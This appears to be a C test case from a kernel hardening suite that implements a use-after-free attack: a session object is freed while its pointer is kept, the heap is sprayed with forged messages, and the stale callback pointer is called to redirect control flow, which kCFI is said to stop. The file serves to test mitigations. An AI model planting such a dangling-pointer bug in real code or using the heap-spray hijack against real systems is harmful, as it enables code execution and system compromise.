/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Use after free: an object is freed while a pointer to it is kept, its block becomes a message of the attacker's, and
 * the function pointer that the object had is called. Many messages are sent, so that one of them gets the block.
 */
#include "attacks.h"

#include <kernel/heap.h>

#define MESSAGES 256

struct session {
	uint64_t id;
	long (*close)(struct session *session, int why);
	uint8_t rest[112];
};

static struct session *current;

static long close_session(struct session *session, int why)
{
	long id = (long)session->id;

	heap_free(session);
	return id + why;
}

static NOINLINE bool open_session(uint64_t id)
{
	current = heap_zalloc(sizeof(*current));
	if (!current)
		return false;
	current->id = id;
	current->close = close_session;
	return true;
}

/* The mistake: current stays what it was. */
static NOINLINE void time_out(void)
{
	heap_free(current);
}

static NOINLINE long hang_up(void)
{
	return attack_opaque(current)->close(current, 1);
}

static bool benign(const struct attack *attack)
{
	return open_session(6) && hang_up() == 7;
}

static void use(const struct attack *attack, uintptr_t slide)
{
	struct session forged = { 0 };
	uint64_t goal = attack_linked_code(attack_goal) + slide;

	memcpy(&forged.close, &goal, sizeof(goal));
	if (!open_session(1))
		attack_failed(attack, "no memory");
	time_out();
	for (int i = 0; i < MESSAGES; i++) {
		void *message = heap_alloc(sizeof(forged));

		if (message)
			memcpy(message, &forged, sizeof(forged));
	}
	attack_primitive(attack);
	hang_up();
}
ATTACK_BODY(use)

ATTACK(uaf_fptr, .family = "use after free", .primitive = USE_AFTER_FREE, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "kcfi layout", .about = "a freed object's callback is what a message has in its place", .run = run,
       .benign = benign, .adaptive = adaptive);
